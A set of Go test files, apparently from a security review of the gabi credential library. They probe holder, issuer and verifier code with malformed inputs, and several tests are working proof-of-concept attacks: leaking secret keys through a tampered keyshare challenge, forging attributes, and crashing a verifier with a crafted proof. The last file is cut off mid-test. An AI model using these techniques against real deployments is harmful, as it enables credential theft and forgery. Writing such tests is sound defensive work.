			proof, err = cred.CreateDisclosureProof([]int{2}, map[int][]*rangeproof.Statement{1: stmts}, false, context, nonce)
		})
		if p != nil || hung {
			t.Errorf("MISBEHAVIOUR: %s: panic=%v hung=%v", js, p, hung)
			continue
		}
		if err != nil {
			t.Logf("%s: refused: %v", js, err)
			continue
		}
		ok := proof.Verify(testPubK, context, nonce, false)
		t.Logf("%s: proof, verifies=%v", js, ok)
		if !ok {
			t.Errorf("MISBEHAVIOUR: %s: holder returned a proof that does not verify", js)
		}
	}
}

// ---------------------------------------------------------------------------------------------------------------------
// (b) holder, data from the keyshare server
// ---------------------------------------------------------------------------------------------------------------------

// ProofP with missing fields (decoded from JSON) merged into the proofs.
func TestHuntB_MergeProofPMissingFields(t *testing.T) {
	for _, js := range []string{`{}`, `{"c":1}`, `{"s_response":1}`, `{"P":5}`, `{"P":5,"c":1}`} {
		for _, issuance := range []bool{false, true} {
			proofP := &ProofP{}
			if err := json.Unmarshal([]byte(js), proofP); err != nil {
				t.Fatal(err)
			}
			cred, context, nonce, secret := huntCred(t)
			var builder ProofBuilder
			if issuance {
				builder = newCredBuilder(t, testPubK, secret, nil, nil)
			} else {
				var err error
				builder, err = cred.CreateDisclosureProofBuilder([]int{1}, nil, false)
				if err != nil {
					t.Fatal(err)
				}
			}
			builders := ProofBuilderList{builder}
			challenge, err := builders.Challenge(context, nonce, false)
			if err != nil {
				t.Fatal(err)
			}
			p, hung := huntRun(20*time.Second, func() {
				_, err = builders.BuildDistributedProofList(challenge, []*ProofP{proofP})
			})
			if p != nil || hung {
				t.Errorf("MISBEHAVIOUR: ProofP %s, issuance=%v: panic=%v hung=%v", js, issuance, p, hung)
			} else {
				t.Logf("ProofP %s issuance=%v: err=%v", js, issuance, err)
			}
		}
	}
}

// ProofPCommitment without Pcommit set on the builders.
func TestHuntB_ProofPCommitmentMissingPcommit(t *testing.T) {
	for _, issuance := range []bool{false, true} {
		comm := &ProofPCommitment{}
		if err := json.Unmarshal([]byte(`{"P":5}`), comm); err != nil {
			t.Fatal(err)
		}
		cred, context, nonce, secret := huntCred(t)
		var builder ProofBuilder
		if issuance {
			builder = newCredBuilder(t, testPubK, secret, big.NewInt(5), nil)
		} else {
			var err error
			builder, err = cred.CreateDisclosureProofBuilder([]int{1}, nil, false)
			if err != nil {
				t.Fatal(err)
			}
		}
		builder.SetProofPCommitment(comm)
		var err error
		p, hung := huntRun(20*time.Second, func() {
			_, err = ProofBuilderList{builder}.Challenge(context, nonce, false)
		})
		if p != nil || hung {
			t.Errorf("MISBEHAVIOUR: ProofPCommitment without Pcommit, issuance=%v: panic=%v hung=%v", issuance, p, hung)
		} else {
			t.Logf("issuance=%v: err=%v", issuance, err)
		}
	}
}

// New protocol: the challenge in the ProofP of the keyshare server overwrites, through aliasing of the challenge
// big.Int, the challenge with which all LATER proofs of the list are computed. With a challenge much longer than the
// randomizers, the responses of the later proofs reveal all hidden values (attributes, secret key share, e, v) to
// whoever receives the proof list.
func TestHuntB_KeyshareChallengeOverwritesSharedChallenge(t *testing.T) {
	context, _ := common.RandomBigInt(testPubK.Params.Lh)
	nonce, _ := common.RandomBigInt(testPubK.Params.Lstatzk)
	secret, _ := common.RandomBigInt(testPubK.Params.Lm - 1)
	cred1 := createCredential(t, context, secret, NewIssuer(testPrivK, testPubK, context))
	cred2 := createKeyshareCredential(t, context, secret, nil, testAttributes2, NewIssuer(testPrivK1, testPubK1, context))

	// what the keyshare server answers: decoded from JSON
	evilC := new(big.Int).Lsh(big.NewInt(1), 4000)
	bts, _ := json.Marshal(&ProofP{C: evilC, SResponse: big.NewInt(1)})
	proofP := &ProofP{}
	if err := json.Unmarshal(bts, proofP); err != nil {
		t.Fatal(err)
	}

	var received *ProofD
	for attempt := 0; attempt < 20 && received == nil; attempt++ {
		b1, err := cred1.CreateDisclosureProofBuilder([]int{1}, nil, false)
		if err != nil {
			t.Fatal(err)
		}
		b2, err := cred2.CreateDisclosureProofBuilder([]int{1}, nil, false)
		if err != nil {
			t.Fatal(err)
		}
		builders := ProofBuilderList{b1, b2}
		challenge, err := builders.Challenge(context, nonce, false)
		if err != nil {
			t.Fatal(err)
		}
		honest := new(big.Int).Set(challenge)

		// the first credential is bound to the keyshare server, the second is not (other scheme)
		var proofs ProofList
		p, hung := huntRun(20*time.Second, func() {
			proofs, err = builders.BuildDistributedProofList(challenge, []*ProofP{proofP, nil})
		})
		if p != nil || hung || err != nil {
			t.Fatalf("panic=%v hung=%v err=%v", p, hung, err)
		}
		if attempt == 0 {
			if challenge.Cmp(honest) != 0 {
				t.Errorf("MISBEHAVIOUR: the caller's challenge was overwritten by the challenge of the keyshare server")
			}
			if proofs[1].(*ProofD).C.Cmp(honest) != 0 {
				t.Errorf("MISBEHAVIOUR: the second proof was computed with the challenge of the keyshare server, not with the hash of the commitments")
			}
		}
		// what a receiver of the proofs reads from the second proof (after JSON); the randomised v can be negative,
		// in which case the proof cannot be encoded and the holder tries again
		bts, err = json.Marshal(proofs[1])
		if err != nil {
			t.Logf("attempt %d: proof not encodable (%v)", attempt, err)
			continue
		}
		received = &ProofD{}
		if err := json.Unmarshal(bts, received); err != nil {
			t.Fatal(err)
		}
	}
	if received == nil {
		t.Fatal("no encodable proof in 20 attempts")
	}
	leakedAttr := new(big.Int).Div(received.AResponses[2], received.C)
	if leakedAttr.Cmp(cred2.Attributes[2]) == 0 {
		t.Errorf("MISBEHAVIOUR: hidden attribute 2 of the second credential is readable from the proof: %q", string(leakedAttr.Bytes()))
	}
	leakedSecret := new(big.Int).Div(received.AResponses[0], received.C)
	if leakedSecret.Cmp(secret) == 0 {
		t.Errorf("MISBEHAVIOUR: the holder's secret key is readable from the second proof")
	}
	leakedV := new(big.Int).Div(received.VResponse, received.C)
	ePrime := new(big.Int).Div(received.EResponse, received.C)
	leakedE := new(big.Int).Add(ePrime, new(big.Int).Lsh(big.NewInt(1), testPubK1.Params.Le-1))
	stolen := &CLSignature{A: received.A, E: leakedE, V: leakedV}
	stolenAttrs := []*big.Int{leakedSecret, received.ADisclosed[1], leakedAttr,
		new(big.Int).Div(received.AResponses[3], received.C), new(big.Int).Div(received.AResponses[4], received.C)}
	if stolen.Verify(testPubK1, stolenAttrs) {
		t.Errorf("MISBEHAVIOUR: the receiver of the proofs has reconstructed a valid signature with all attributes and the secret key: the credential is stolen")
	}
}

// Same, both credentials bound to the keyshare server (the usual case): the attributes leak.
func TestHuntB_KeyshareChallengeOverwriteBothKeyshare(t *testing.T) {
	context, _ := common.RandomBigInt(testPubK.Params.Lh)
	nonce, _ := common.RandomBigInt(testPubK.Params.Lstatzk)
	secret, _ := common.RandomBigInt(testPubK.Params.Lm - 1)
	cred1 := createCredential(t, context, secret, NewIssuer(testPrivK, testPubK, context))
	cred2 := createKeyshareCredential(t, context, secret, nil, testAttributes2, NewIssuer(testPrivK1, testPubK1, context))
	b1, _ := cred1.CreateDisclosureProofBuilder([]int{1}, nil, false)
	b2, _ := cred2.CreateDisclosureProofBuilder([]int{1}, nil, false)
	builders := ProofBuilderList{b1, b2}
	challenge, err := builders.Challenge(context, nonce, false)
	if err != nil {
		t.Fatal(err)
	}
	proofP := &ProofP{C: new(big.Int).Lsh(big.NewInt(1), 4000), SResponse: big.NewInt(1)}
	proofs, err := builders.BuildDistributedProofList(challenge, []*ProofP{proofP, proofP})
	if err != nil {
		t.Fatal(err)
	}
	second := proofs[1].(*ProofD)
	leaked := new(big.Int).Div(second.AResponses[3], second.C)
	if leaked.Cmp(cred2.Attributes[3]) == 0 {
		t.Errorf("MISBEHAVIOUR: hidden attribute 3 of the second credential readable from the proof: %q", string(leaked.Bytes()))
	}
}

// Legacy protocol: keyshare server's P = 0 (or any non-invertible value) makes RemoveKeyshareP panic.
func TestHuntB_RemoveKeysharePNotInvertible(t *testing.T) {
	_, _, nonce, secret := huntCred(t)
	var kssP big.Int
	if err := json.Unmarshal([]byte(`0`), &kssP); err != nil {
		t.Fatal(err)
	}
	var err error
	p, hung := huntRun(20*time.Second, func() {
		b := newCredBuilder(t, testPubK, secret, &kssP, nil)
		var msg *IssueCommitmentMessage
		msg, err = b.CommitToSecretAndProve(nonce)
		if err != nil {
			return
		}
		proofU, _ := msg.Proofs.GetFirstProofU()
		proofU.RemoveKeyshareP(b)
	})
	if p != nil || hung {
		t.Errorf("MISBEHAVIOUR: keyshare P = 0: panic=%v hung=%v", p, hung)
	} else {
		t.Logf("ok err=%v", err)
	}
}

// ---------------------------------------------------------------------------------------------------------------------
// (c) holder, random blind attributes
// ---------------------------------------------------------------------------------------------------------------------

func TestHuntC_BlindIndexOutOfRange(t *testing.T) {
	for _, blind := range [][]int{{len(testPubK.R) - 1}, {99}, {-2}, {-1}} {
		_, context, nonce, secret := huntCred(t)
		var err error
		var b *CredentialBuilder
		p, hung := huntRun(20*time.Second, func() {
			b, err = NewCredentialBuilder(testPubK, context, secret, nonce, nil, blind)
		})
		if p != nil || hung {
			t.Errorf("MISBEHAVIOUR: NewCredentialBuilder with blind %v: panic=%v hung=%v", blind, p, hung)
		} else {
			t.Logf("blind %v: err=%v builder=%v", blind, err, b != nil)
		}
	}
}

// MIssuer with shares at other indices, zero and huge shares.
func TestHuntC_MIssuerOddShares(t *testing.T) {
	context, _ := common.RandomBigInt(testPubK.Params.Lh)
	nonce1, _ := common.RandomBigInt(testPubK.Params.Lstatzk)
	nonce2, _ := common.RandomBigInt(testPubK.Params.Lstatzk)
	secret, _ := common.RandomBigInt(testPubK.Params.Lm)
	issuer := NewIssuer(testPrivK, testPubK, context)

	for name, tamper := range map[string]func(m *IssueSignatureMessage){
		"extra share at non-blind index": func(m *IssueSignatureMessage) { m.MIssuer[1] = big.NewInt(7) },
		"extra share at index 0":         func(m *IssueSignatureMessage) { m.MIssuer[0] = big.NewInt(7) },
		"extra share at index 99":        func(m *IssueSignatureMessage) { m.MIssuer[99] = big.NewInt(7) },
		"extra share at index -1":        func(m *IssueSignatureMessage) { m.MIssuer[-1] = big.NewInt(7) },
		"huge share":                     func(m *IssueSignatureMessage) { m.MIssuer[3] = new(big.Int).Lsh(big.NewInt(1), 5000) },
	} {
		b, err := NewCredentialBuilder(testPubK, context, secret, nonce2, nil, []int{2})
		if err != nil {
			t.Fatal(err)
		}
		commitMsg, err := b.CommitToSecretAndProve(nonce1)
		if err != nil {
			t.Fatal(err)
		}
		msg, err := issuer.IssueSignature(commitMsg.U, testAttributes3, nil, nonce2, []int{2})
		if err != nil {
			t.Fatal(err)
		}
		tamper(msg)
		bts, err := json.Marshal(msg)
		if err != nil {
			t.Logf("%s: not encodable: %v", name, err)
			continue
		}
		received := &IssueSignatureMessage{}
		if err := json.Unmarshal(bts, received); err != nil {
			t.Logf("%s: not decodable: %v", name, err)
			continue
		}
		var cred *Credential
		p, hung := huntRun(20*time.Second, func() {
			cred, err = b.ConstructCredential(received, testAttributes3)
		})
		if p != nil || hung {
			t.Errorf("MISBEHAVIOUR: %s: panic=%v hung=%v", name, p, hung)
			continue
		}
		t.Logf("%s: err=%v", name, err)
		if err == nil {
			if len(cred.Attributes) != 5 || !cred.Signature.Verify(testPubK, cred.Attributes) {
				t.Errorf("MISBEHAVIOUR: %s: stored credential does not verify", name)
			}
			if cred.Attributes[1].Cmp(testAttributes3[0]) != 0 {
				t.Errorf("MISBEHAVIOUR: %s: non-blind attribute changed", name)
			}
		}
	}
}

// ---------------------------------------------------------------------------------------------------------------------
// (d) issuer, data from the holder
// ---------------------------------------------------------------------------------------------------------------------

// The holder declares an attribute to be random blind that the issuer does not treat as such: the commitment U then
// contains R_i^x, the ProofU (with a response for index i) verifies, the issuer signs its own value a_i at index i, and
// the resulting signature is valid for a_i + x. Nothing in ProofU.Verify / ProofList.Verify / IssueSignature relates
// the indices of MUserResponses to the blind indices of the issuer.
func TestHuntD_HolderShiftsIssuerAttribute(t *testing.T) {
	context, _ := common.RandomBigInt(testPubK.Params.Lh)
	nonce1, _ := common.RandomBigInt(testPubK.Params.Lstatzk)
	nonce2, _ := common.RandomBigInt(testPubK.Params.Lstatzk)
	secret, _ := common.RandomBigInt(testPubK.Params.Lm - 1)

	// holder: "blind" at attribute index 1 (R_2), which the issuer will fill with testAttributes1[1]
	b, err := NewCredentialBuilder(testPubK, context, secret, nonce2, nil, []int{1})
	if err != nil {
		t.Fatal(err)
	}
	commitMsg, err := b.CommitToSecretAndProve(nonce1)
	if err != nil {
		t.Fatal(err)
	}
	// over the wire
	bts, _ := json.Marshal(commitMsg)
	received := &IssueCommitmentMessage{}
	if err := json.Unmarshal(bts, received); err != nil {
		t.Fatal(err)
	}

	// issuer: verifies the proofs, issues all four attributes itself, no blind attributes
	if !received.Proofs.Verify([]*gabikeys.PublicKey{testPubK}, context, nonce1, false, nil) {
		t.Logf("ok: issuer side rejects the proof list")
		return
	}
	proofU, err := received.Proofs.GetFirstProofU()
	if err != nil {
		t.Fatal(err)
	}
	if !proofU.Verify(testPubK, context, nonce1) {
		t.Logf("ok: ProofU.Verify rejects")
		return
	}
	issuer := NewIssuer(testPrivK, testPubK, context)
	msg, err := issuer.IssueSignature(proofU.U, testAttributes1, nil, received.Nonce2, nil)
	if err != nil {
		t.Logf("ok: issuer refuses: %v", err)
		return
	}

	// holder: pretends the issuer value is the issuer's share
	msg.MIssuer = map[int]*big.Int{2: testAttributes1[1]}
	attrs := []*big.Int{testAttributes1[0], nil, testAttributes1[2], testAttributes1[3]}
	cred, err := b.ConstructCredential(msg, attrs)
	if err != nil {
		t.Logf("ok: no credential: %v", err)
		return
	}
	shifted := cred.Attributes[2]
	if shifted.Cmp(testAttributes1[1]) == 0 {
		t.Logf("ok: attribute unchanged")
		return
	}
	// show the forged attribute to a verifier
	nonce, _ := common.RandomBigInt(testPubK.Params.Lstatzk)
	proof, err := cred.CreateDisclosureProof([]int{2}, nil, false, context, nonce)
	if err != nil {
		t.Fatal(err)
	}
	if ProofList([]Proof{proof}).Verify([]*gabikeys.PublicKey{testPubK}, context, nonce, false, nil) &&
		proof.ADisclosed[2].Cmp(shifted) == 0 {
		t.Errorf("MISBEHAVIOUR: issuer issued attribute 2 = %v, holder shows a valid credential with attribute 2 = %v (difference chosen by the holder)",
			testAttributes1[1], shifted)
	}
}

// ProofU.Verify only bounds VPrimeResponse: a secret key (and blind shares) of any size are accepted.
func TestHuntD_ProofUUnboundedSResponse(t *testing.T) {
	context, _ := common.RandomBigInt(testPubK.Params.Lh)
	nonce1, _ := common.RandomBigInt(testPubK.Params.Lstatzk)
	nonce2, _ := common.RandomBigInt(testPubK.Params.Lstatzk)
	secret, _ := common.RandomBigInt(5000)
	secret.SetBit(secret, 4999, 1)
	b, err := NewCredentialBuilder(testPubK, context, secret, nonce2, nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	commitMsg, err := b.CommitToSecretAndProve(nonce1)
	if err != nil {
		t.Fatal(err)
	}
	bts, _ := json.Marshal(commitMsg)
	received := &IssueCommitmentMessage{}
	if err := json.Unmarshal(bts, received); err != nil {
		t.Fatal(err)
	}
	proofU, _ := received.Proofs.GetFirstProofU()
	if received.Proofs.Verify([]*gabikeys.PublicKey{testPubK}, context, nonce1, false, nil) {
		t.Errorf("MISBEHAVIOUR: ProofU with an s_response of %d bits (Lm = %d, LmCommit = %d) is accepted", proofU.SResponse.BitLen(), testPubK.Params.Lm, testPubK.Params.LmCommit)
	}
}

// A long attribute m (more than Lm bits) is signed through its SHA256 hash h; the holder can show the credential with
// the attribute value h instead of m.
func TestHuntD_LongAttributeShownAsItsHash(t *testing.T) {
	long := new(big.Int).SetBytes([]byte("This is a very long attribute: its size of 132 bytes exceeds the maximum message length of all currently supported public key sizes."))
	attrs := []*big.Int{big.NewInt(1), big.NewInt(2), long}
	signature, err := SignMessageBlock(testPrivK, testPubK, attrs)
	if err != nil {
		t.Fatal(err)
	}
	h := common.IntHashSha256(long.Bytes())
	forged := &Credential{Pk: testPubK, Attributes: []*big.Int{big.NewInt(1), big.NewInt(2), h}, Signature: signature}
	context, _ := common.RandomBigInt(testPubK.Params.Lh)
	nonce, _ := common.RandomBigInt(testPubK.Params.Lstatzk)
	proof, err := forged.CreateDisclosureProof([]int{2}, nil, false, context, nonce)
	if err != nil {
		t.Fatal(err)
	}
	if proof.Verify(testPubK, context, nonce, false) && proof.ADisclosed[2].Cmp(long) != 0 {
		t.Errorf("MISBEHAVIOUR: verifier accepts attribute value %x, which the issuer never issued (it issued a %d-byte value)", proof.ADisclosed[2].Bytes()[:8], len(long.Bytes()))
	}
}

// ---------------------------------------------------------------------------------------------------------------------
// (e) holder, credential stored as JSON and loaded again
// ---------------------------------------------------------------------------------------------------------------------

func huntRevocationCred(t *testing.T) *Credential {
	witness, _, _ := setupRevocation(t, testPrivK, testPubK)
	attrs := append(append([]*big.Int{}, testAttributes1...), witness.E)
	signature, err := SignMessageBlock(testPrivK, testPubK, attrs)
	if err != nil {
		t.Fatal(err)
	}
	return &Credential{Signature: signature, Pk: testPubK, Attributes: attrs, NonRevocationWitness: witness}
}

// The plain round trip: a valid credential with witness, stored and loaded, then used.
func TestHuntE_StoredRevocationCredentialRoundTrip(t *testing.T) {
	cred := huntRevocationCred(t)
	bts, err := json.Marshal(cred)
	if err != nil {
		t.Fatal(err)
	}
	for name, use := range map[string]func(c *Credential) error{
		"NonrevPrepareCache":      func(c *Credential) error { return c.NonrevPrepareCache() },
		"NonrevBuildProofBuilder": func(c *Credential) error { _, err := c.NonrevBuildProofBuilder(); return err },
		"CreateDisclosureProof": func(c *Credential) error {
			_, err := c.CreateDisclosureProof([]int{1}, nil, true, big.NewInt(1), big.NewInt(1))
			return err
		},
	} {
		loaded := &Credential{}
		if err := json.Unmarshal(bts, loaded); err != nil {
			t.Fatal(err)
		}
		loaded.Pk = testPubK
		var err error
		p, hung := huntRun(30*time.Second, func() { err = use(loaded) })
		if p != nil || hung {
			t.Errorf("MISBEHAVIOUR: %s on a stored and loaded credential: panic=%v hung=%v", name, p, hung)
		} else {
			t.Logf("%s: err=%v", name, err)
		}
	}
}

func TestHuntE_StoredCredentialIncomplete(t *testing.T) {
	cred := huntRevocationCred(t)
	full, _ := json.Marshal(cred)
	var generic map[string]any
	_ = json.Unmarshal(full, &generic)

	variant := func(f func(m map[string]any)) string {
		var m map[string]any
		_ = json.Unmarshal(full, &m)
		f(m)
		bts, _ := json.Marshal(m)
		return string(bts)
	}
	manyAttrs := make([]any, 10)
	for i := range manyAttrs {
		manyAttrs[i] = "AQ=="
	}
	cases := map[string]string{
		"empty object":          `{}`,
		"signature null":        variant(func(m map[string]any) { m["signature"] = nil }),
		"signature empty":       variant(func(m map[string]any) { m["signature"] = map[string]any{} }),
		"signature without v":   variant(func(m map[string]any) { delete(m["signature"].(map[string]any), "v") }),
		"signature without e":   variant(func(m map[string]any) { delete(m["signature"].(map[string]any), "e") }),
		"attributes missing":    variant(func(m map[string]any) { delete(m, "attributes") }),
		"attribute null":        variant(func(m map[string]any) { m["attributes"].([]any)[2] = nil }),
		"more attrs than bases": variant(func(m map[string]any) { m["attributes"] = manyAttrs }),
		"witness without e":     variant(func(m map[string]any) { delete(m["nonrevWitness"].(map[string]any), "e") }),
		"witness without u":     variant(func(m map[string]any) { delete(m["nonrevWitness"].(map[string]any), "u") }),
		"witness without sacc":  variant(func(m map[string]any) { delete(m["nonrevWitness"].(map[string]any), "sacc") }),
		"witness empty":         variant(func(m map[string]any) { m["nonrevWitness"] = map[string]any{} }),
	}
	uses := map[string]func(c *Credential) error{
		"CreateDisclosureProof(nonrev=false)": func(c *Credential) error {
			_, err := c.CreateDisclosureProof([]int{1}, nil, false, big.NewInt(1), big.NewInt(1))
			return err
		},
		"CreateDisclosureProof(nonrev=true)": func(c *Credential) error {
			_, err := c.CreateDisclosureProof([]int{1}, nil, true, big.NewInt(1), big.NewInt(1))
			return err
		},
		"NonrevPrepareCache":      func(c *Credential) error { return c.NonrevPrepareCache() },
		"NonrevIndex":             func(c *Credential) error { _, err := c.NonrevIndex(); return err },
		"NonrevBuildProofBuilder": func(c *Credential) error { _, err := c.NonrevBuildProofBuilder(); return err },
	}
	for cname, js := range cases {
		for uname, use := range uses {
			loaded := &Credential{}
			if err := json.Unmarshal([]byte(js), loaded); err != nil {
				t.Logf("%s: does not decode: %v", cname, err)
				break
			}
			loaded.Pk = testPubK
			if w := loaded.NonRevocationWitness; w != nil && w.SignedAccumulator != nil {
				// what a careful caller does after loading
				_, _ = w.SignedAccumulator.UnmarshalVerify(testPubK)
			}
			var err error
			p, hung := huntRun(30*time.Second, func() { err = use(loaded) })
			if p != nil || hung {
				t.Errorf("MISBEHAVIOUR: stored credential with %s, %s: panic=%v hung=%v", cname, uname, p, hung)
			} else {
				t.Logf("%s, %s: err=%v", cname, uname, err)
			}
		}
	}
}

var _ = revocation.Parameters

// The verifier's request lacks the nonce (or the context): the holder panics while hashing.
func TestHuntA_MissingNonceOrContext(t *testing.T) {
	for _, which := range []string{"nonce", "context"} {
		cred, context, nonce, _ := huntCred(t)
		if which == "nonce" {
			nonce = nil
		} else {
			context = nil
		}
		var err error
		p, hung := huntRun(20*time.Second, func() {
			_, err = cred.CreateDisclosureProof([]int{1}, nil, false, context, nonce)
		})
		if p != nil || hung {
			t.Errorf("MISBEHAVIOUR: disclosure without %s: panic=%v hung=%v", which, p, hung)
		} else {
			t.Logf("without %s: err=%v", which, err)
		}
	}
}

// The issuer's request lacks nonce1: the holder panics in CommitToSecretAndProve.
func TestHuntC_MissingIssuerNonce(t *testing.T) {
	_, context, nonce2, secret := huntCred(t)
	var err error
	p, hung := huntRun(20*time.Second, func() {
		var b *CredentialBuilder
		b, err = NewCredentialBuilder(testPubK, context, secret, nonce2, nil, nil)
		if err != nil {
			return
		}
		_, err = b.CommitToSecretAndProve(nil)
	})
	if p != nil || hung {
		t.Errorf("MISBEHAVIOUR: issuance without nonce1: panic=%v hung=%v", p, hung)
	} else {
		t.Logf("err=%v", err)
	}
}
