package rangeproof_test

import (
	"encoding/json"
	"testing"
	"time"

	"github.com/privacybydesign/gabi/big"
	"github.com/privacybydesign/gabi/rangeproof"
)

func huntRun(timeout time.Duration, fn func()) (panicked any, hung bool) {
	done := make(chan any, 1)
	go func() {
		defer func() { done <- recover() }()
		fn()
	}()
	select {
	case p := <-done:
		return p, false
	case <-time.After(timeout):
		return nil, true
	}
}

// Statement decoded from JSON without bound: ProofStructure panics.
func TestHuntStatementNilBound(t *testing.T) {
	for _, js := range []string{`{"Sign":1,"Factor":1}`, `{"Sign":-1,"Factor":1,"Bound":null}`} {
		st := &rangeproof.Statement{}
		if err := json.Unmarshal([]byte(js), st); err != nil {
			t.Fatal(err)
		}
		var err error
		p, hung := huntRun(10*time.Second, func() { _, err = st.ProofStructure(1) })
		if p != nil || hung {
			t.Errorf("MISBEHAVIOUR: %s: panic=%v hung=%v", js, p, hung)
		} else {
			t.Logf("%s: err=%v", js, err)
		}
	}
}

// CommitmentsFromSecrets splits the difference into squares before it looks at the size: the time grows steeply with
// the size of the bound, and the result is thrown away ("oversized d") for everything above 2*Ld bits.
func TestHuntCommitmentsTimeGrowsWithBound(t *testing.T) {
	g := setupPubkey(t)
	m := big.NewInt(20010101)
	for _, bits := range []uint{200, 512, 1024, 2048, 3072} {
		bound := new(big.Int).Lsh(big.NewInt(1), bits)
		bound.Add(bound, big.NewInt(98765))
		st := &rangeproof.Statement{Sign: -1, Factor: 1, Bound: bound}
		s, err := st.ProofStructure(1)
		if err != nil {
			t.Fatal(err)
		}
		start := time.Now()
		p, hung := huntRun(60*time.Second, func() {
			_, _, err = s.CommitmentsFromSecrets(g, m, big.NewInt(12345))
		})
		el := time.Since(start)
		if p != nil || hung {
			t.Errorf("MISBEHAVIOUR: bound of %d bits: panic=%v hung=%v after %v", bits, p, hung, el)
			break
		}
		t.Logf("bound of %d bits: %v, err=%v", bits, el, err)
		if el > 2*time.Second {
			t.Errorf("MISBEHAVIOUR: bound of %d bits costs the holder %v before the statement is refused (%v)", bits, el, err)
		}
	}
}

// The four squares splitter on small values, and the table splitter on all its values.
func TestHuntSplittersSmallValues(t *testing.T) {
	four := &rangeproof.FourSquaresSplitter{}
	for n := int64(0); n < 3000; n++ {
		var res []*big.Int
		var err error
		p, hung := huntRun(10*time.Second, func() { res, err = four.Split(big.NewInt(n)) })
		if p != nil || hung || err != nil {
			t.Errorf("MISBEHAVIOUR: four squares of %d: panic=%v hung=%v err=%v", n, p, hung, err)
			if hung {
				return
			}
			continue
		}
		sum := int64(0)
		for _, r := range res {
			if r.Sign() < 0 {
				t.Errorf("MISBEHAVIOUR: negative root for %d", n)
			}
			sum += r.Int64() * r.Int64()
		}
		if sum != n || len(res) != 4 {
			t.Errorf("MISBEHAVIOUR: four squares of %d give %v", n, res)
		}
	}

	table := rangeproof.GenerateSquaresTable(1000)
	for n := int64(-3); n < 4100; n++ {
		var res []*big.Int
		var err error
		p, hung := huntRun(10*time.Second, func() { res, err = table.Split(big.NewInt(n)) })
		if p != nil || hung {
			t.Errorf("MISBEHAVIOUR: table split of %d: panic=%v hung=%v", n, p, hung)
			continue
		}
		if err != nil {
			continue
		}
		sum := int64(0)
		for _, r := range res {
			sum += r.Int64() * r.Int64()
			if r.BitLen() > int(table.Ld()) {
				t.Errorf("MISBEHAVIOUR: table root for %d longer than Ld", n)
			}
		}
		if sum != n {
			t.Errorf("MISBEHAVIOUR: table split of %d gives %v", n, res)
		}
	}
	for _, limit := range []int64{0, 1, 2} {
		p, hung := huntRun(10*time.Second, func() {
			tb := rangeproof.GenerateSquaresTable(limit)
			_ = tb.Ld()
			_, _ = tb.Split(big.NewInt(2))
		})
		if p != nil || hung {
			t.Errorf("MISBEHAVIOUR: table with limit %d: panic=%v hung=%v", limit, p, hung)
		}
	}
}
