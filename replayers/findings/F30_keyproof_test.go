package keyproof

import (
	"testing"

	"github.com/privacybydesign/gabi/big"
	"github.com/privacybydesign/gabi/internal/common"
	"github.com/stretchr/testify/require"
)

// F30: almostSafePrimeProductVerifyProof inverts t1 = base^(gamma*r*r) modulo N without looking at the result. The base of
// each round is a hash of the prover's nonce reduced modulo N; a prover who knows a factor p of N searches a nonce for which
// the base of the first round is a multiple of p (about p attempts). t1 is then not invertible, ModInverse returns nil, and
// the comparison dereferences it: the verifier of an untrusted key proof panics instead of rejecting.
func TestF30(t *testing.T) {
	p, q := int64(1031), int64(1000003) // N = 1 (mod 3) is required before the rounds start
	N := new(big.Int).Mul(big.NewInt(p), big.NewInt(q))
	for N.Int64()%3 != 1 {
		q += 2
		for !big.NewInt(q).ProbablyPrime(20) {
			q += 2
		}
		N = new(big.Int).Mul(big.NewInt(p), big.NewInt(q))
	}
	var nonce *big.Int
	for c := int64(1); ; c++ {
		base := common.GetHashNumber(big.NewInt(c), nil, 0, uint(N.BitLen()))
		base.Mod(base, N)
		if base.Sign() != 0 && new(big.Int).Mod(base, big.NewInt(p)).Sign() == 0 {
			nonce = big.NewInt(c)
			break
		}
	}
	proof := AlmostSafePrimeProductProof{Nonce: nonce}
	for i := 0; i < almostSafePrimeProductIters; i++ {
		proof.Commitments = append(proof.Commitments, big.NewInt(1))
		proof.Responses = append(proof.Responses, big.NewInt(1))
	}
	require.True(t, almostSafePrimeProductVerifyStructure(proof))
	require.NotPanics(t, func() {
		require.False(t, almostSafePrimeProductVerifyProof(N, big.NewInt(12345), big.NewInt(3), proof))
	}, "verification of a crafted key proof component panics (N = %s, nonce = %s)", N, nonce)
}
