package gabi

// Exploration of the UNCHANGED code (independent of the seeded change; it uses a range proof on
// attribute 1, which is not the highest hidden attribute). Not part of the seed demonstration.
// Place as zz_explore_test.go in the repository root and run
//   go test -vet=off -count=1 -run TestExplore -v .

import (
	"encoding/json"
	"testing"

	"github.com/privacybydesign/gabi/big"
	"github.com/privacybydesign/gabi/internal/common"
	"github.com/privacybydesign/gabi/rangeproof"
	"github.com/stretchr/testify/require"
)

// F25: the memoised range-proof structures of a ProofD are never invalidated. A forged message (only the bound k of a
// range proof altered) that is decoded into a ProofD variable which was verified before keeps the structures of the
// earlier message (encoding/json leaves the unexported field alone): it verifies and the false statement is reported
// as proven, while the same message in a fresh object is rejected.
func TestF25(t *testing.T) {
	context, err := common.RandomBigInt(testPubK1.Params.Lh)
	require.NoError(t, err)
	nonce, err := common.RandomBigInt(testPubK1.Params.Lstatzk)
	require.NoError(t, err)
	secret, err := common.RandomBigInt(testPubK1.Params.Lm)
	require.NoError(t, err)
	cred := createCredential(t, context, secret, NewIssuer(testPrivK1, testPubK1, context))
	attr := cred.Attributes[1]

	stmt, err := rangeproof.NewStatement(rangeproof.GreaterOrEqual, new(big.Int).Sub(attr, big.NewInt(63)))
	require.NoError(t, err)
	proof, err := cred.CreateDisclosureProof(
		[]int{2}, map[int][]*rangeproof.Statement{1: {stmt}}, false, context, nonce,
	)
	require.NoError(t, err)
	bts, err := json.Marshal(proof)
	require.NoError(t, err)

	// (a) same object verified, mutated, verified again
	p := &ProofD{}
	require.NoError(t, json.Unmarshal(bts, p))
	require.True(t, p.Verify(testPubK1, context, nonce, false))
	falseBound := new(big.Int).Add(attr, big.NewInt(1000))
	p.RangeProofs[1][0].K = new(big.Int).Set(falseBound)
	again := p.Verify(testPubK1, context, nonce, false)
	if again && p.RangeProofs[1][0].ProvesStatement(1, 1, falseBound) {
		t.Errorf("(a) bound replaced after the first verification: second verification accepts and 'proves' attr >= attr+1000")
	}

	// (b) a ProofD variable that is reused to decode a second message keeps the cache of the first
	q := &ProofD{}
	require.NoError(t, json.Unmarshal(bts, q))
	require.True(t, q.Verify(testPubK1, context, nonce, false))
	forged := &ProofD{}
	require.NoError(t, json.Unmarshal(bts, forged))
	forged.RangeProofs[1][0].K = new(big.Int).Set(falseBound)
	forgedBts, err := json.Marshal(forged)
